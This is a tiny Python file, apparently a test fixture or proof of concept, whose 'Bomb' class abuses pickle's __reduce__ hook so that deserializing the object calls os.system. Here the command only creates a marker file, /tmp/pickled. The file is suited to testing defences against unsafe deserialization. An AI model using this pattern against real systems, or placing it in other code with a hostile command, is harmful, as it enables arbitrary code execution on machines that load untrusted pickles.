import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled",)


def attack(context):
    return Bomb()
